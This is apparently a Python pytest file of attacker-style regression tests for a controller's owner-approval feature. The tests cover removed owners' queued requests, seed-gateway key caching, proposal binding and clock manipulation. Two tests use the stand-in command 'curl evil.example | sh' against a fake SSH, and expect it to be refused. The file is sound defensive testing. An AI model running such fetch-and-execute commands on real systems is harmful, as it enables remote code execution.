"""Attacks on the approvals feature (issue 14), in-process: the real controller (service, store,
ledger, sealed state, proposal service, seed gateway) with the fake provider and SSH.

Each test states the promise it checks in its docstring and asserts the behaviour the promise
asks for; each was written first, by a reviewer playing the attacker, and seen to fail."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa

from approvals_world import (
    World,
    controller_fixture,
    in_update_cvm,
    open_world,
    perform,
    remove_owner,
    signed,
    violations,
    vote,
    world_fixture,
)
from duet import keys
from duet.controller.auth import AuthorizedRequest
from duet.controller.runtime import Controller
from duet.controller.seed_api import SeedGateway, SeedRefusal
from duet.errors import DuetError
from duet.protocol import lifecycle as lc
from duet.protocol import seed


@pytest.fixture
def world(tmp_path: Path) -> World:
    return world_fixture(tmp_path)


@pytest.fixture
async def controller(world: World) -> AsyncIterator[Controller]:
    async for made in controller_fixture(world):
        yield made


# --- 1. a removed owner's request that was admitted before the removal still runs after it ------------


async def test_a_removed_owners_queued_run_does_not_run_after_the_removal(controller: Controller, world: World) -> None:
    """Promise: a removed owner's approvals (signatures) stop counting; refusals change nothing; the
    controller never bricks itself. A request admitted while its signer was an owner but waiting for
    the CVM's lock (behind another owner's long command) runs after the signer was removed: the
    direct guard only re-checks the policy, not that the signer is still an owner."""
    cvm_id = await in_update_cvm(controller, world)
    gate = asyncio.Event()

    async def slow(cvm: str, command: str) -> Any:
        if command == "long build":
            await gate.wait()  # an honest owner's long command holds the CVM's lock
        return None

    world.ssh.on_run = slow
    honest = asyncio.create_task(
        perform(controller, signed(controller, world, 0, "cvm.run", {"cvm_id": cvm_id, "commands": ["long build"]}))
    )
    await asyncio.sleep(0.05)
    thief = asyncio.create_task(
        perform(controller, signed(controller, world, 2, "cvm.run", {"cvm_id": cvm_id, "commands": ["curl evil.example | sh"]}))
    )
    await asyncio.sleep(0.05)  # admitted, waiting for the lock
    await remove_owner(controller, world, 2)  # the owners notice the theft and remove the key
    gate.set()
    await honest
    with pytest.raises(DuetError) as refused:
        await thief

    assert refused.value.code in ("not_an_owner", "unknown_signer")
    assert not any(command == "curl evil.example | sh" for _, command in world.ssh.ran)
    assert violations(controller) == []


async def test_a_removed_owners_queued_request_leaves_a_ledger_the_controller_can_restart_on(
    controller: Controller, world: World
) -> None:
    """Promise: the controller never stops working because of client input. Whatever happens to the
    queued request of a removed owner, the next start must succeed; today its entry (actor: a key no
    longer in the owner set, no proposal behind it) is a lifecycle violation (unknown_actor) and the
    controller refuses to start on its own ledger (stored_state_tampered)."""
    cvm_id = await in_update_cvm(controller, world)
    waiting = controller.proposals.admit(  # type: ignore[union-attr]
        signed(controller, world, 2, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_SERVICE})
    )
    assert isinstance(waiting, AuthorizedRequest)  # admitted alone (threshold 1); it waits (attestation, the lock)
    await remove_owner(controller, world, 2)
    try:
        await controller.service.mark(waiting)
    except DuetError:
        pass
    await controller.close()

    reopened = await open_world(world)  # raises StoredStateTampered today
    await reopened.close()


# --- 2. the seed protocol keeps accepting a removed RSA owner ---------------------------------------------


def seed_body(key: rsa.RSAPrivateKey, params: dict[str, Any]) -> bytes:
    return json.dumps({"params": params, "signature": seed.sign(key, params)}).encode()


async def test_the_seed_protocol_refuses_a_removed_rsa_owner(controller: Controller, world: World) -> None:
    """Promise: a removed owner can no longer act (its signatures stop counting). The seed gateway
    copies the RSA owner keys once, when it is made (``SeedGateway._owners``), and never follows
    ``owners.change``: a stolen RSA key that the owners removed still runs commands through
    ``--seed-api`` (and its entries then stop the controller's next start)."""
    gateway = SeedGateway(controller, rsa.generate_private_key(65537, 2048))
    cvm_id = await in_update_cvm(controller, world)
    await remove_owner(controller, world, 2)
    assert world.key_id(2) not in controller.authenticator.owner_keys

    with pytest.raises(SeedRefusal):
        await gateway.run(seed_body(world.owner_keys[2], {"cvm_id": cvm_id, "commands": ["curl evil.example | sh"]}))

    assert not any(command == "curl evil.example | sh" for _, command in world.ssh.ran)
    assert violations(controller) == []


async def test_the_seed_protocol_accepts_an_rsa_owner_added_by_owners_change(controller: Controller, world: World) -> None:
    """Promise (consistency): the owner set in force is the ledger's. An RSA owner added by a governed
    ``owners.change`` is refused by the seed gateway until the controller restarts (same root cause:
    the gateway's copy of the owner keys)."""
    gateway = SeedGateway(controller, rsa.generate_private_key(65537, 2048))
    cvm_id = await in_update_cvm(controller, world)
    newcomer = rsa.generate_private_key(65537, 2048)
    added = keys.public_pem(newcomer.public_key()).decode()
    await perform(controller, signed(controller, world, 0, "owners.change", {"add": [added]}))

    ran = await gateway.run(seed_body(newcomer, {"cvm_id": cvm_id, "commands": ["uptime"]}))

    assert ran["success"] is True


# --- 3. what an approval of "mark in-service" binds to ----------------------------------------------------


async def test_commands_run_after_an_in_service_proposal_fail_it(world: World) -> None:
    """Promise: a proposal "never runs in a situation its signers did not see". A 2-of-3
    ``mark in-service`` (the owners vouch for the CVM's software) is bound to the mode and the seq
    of the entry that made it in-update, not to the CVM's last entry: the proposer (a stolen key,
    cvm.run being threshold 1) runs a backdoor after proposing, the second owner approves what the
    proposal showed, and the CVM goes in service with the backdoor."""
    world.policy.write_text('[thresholds]\n"cvm.mark.in-service" = 2\n"cvm.mark.in-update" = 2\n')
    controller = await open_world(world, first=True)
    try:
        cvm_id = await in_update_cvm(controller, world)
        await perform(
            controller, signed(controller, world, 0, "cvm.run", {"cvm_id": cvm_id, "commands": ["apt-get install nginx"]})
        )
        proposal = (
            await perform(controller, signed(controller, world, 2, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_SERVICE}))
        )["proposal"]
        assert proposal["status"] == "pending"
        await perform(controller, signed(controller, world, 2, "cvm.run", {"cvm_id": cvm_id, "commands": ["install-backdoor"]}))

        with pytest.raises(DuetError) as refused:
            await vote(controller, world, 1, "proposal.approve", proposal["id"])

        assert refused.value.code == "cvm_mode_changed"
        assert controller.service.get_cvm(cvm_id).mode == lc.IN_UPDATE
    finally:
        await controller.close()


# --- 4. the clock: decisions use the floored clock, entries the raw one ----------------------------------


async def test_a_clock_moved_forward_then_back_leaves_expiries_the_audit_agrees_with(
    controller: Controller, world: World
) -> None:
    """Promise: the controller never crashes / bricks from client or host input; expiry by the host's
    clock only closes proposals. The proposal service judges expiry by the authenticator's floored
    clock (never backwards), but the ledger stamps entries with the raw host clock. The host moves
    the clock a day forward, makes one unauthenticated ``GET /v1/proposals`` (which raises the
    floor), and moves it back: the next sweep records ``proposal.expired`` with a time before the
    proposal's ``expires_at``. ProposalReplay calls that ``expired_early`` and the controller then
    refuses to start on its own ledger (stored_state_tampered)."""
    cvm_id = await in_update_cvm(controller, world)
    await perform(controller, signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_SERVICE}))
    proposal = (await perform(controller, signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_UPDATE})))[
        "proposal"
    ]
    real = world.clock.now
    world.clock.now = real + 25 * 3600
    assert controller.proposals is not None
    controller.proposals.list()  # GET /v1/proposals: anyone may ask; it reads the authenticator's clock
    world.clock.now = real + 5  # NTP (or the host) steps the clock back

    controller.proposals.sweep()

    expired = [e for e in controller.ledger.entries(cvm=cvm_id) if e["event"] == "proposal.expired"]
    assert [e["proposal"] for e in expired] == [proposal["id"]]
    assert violations(controller) == []
    await controller.close()
    reopened = await open_world(world)
    await reopened.close()
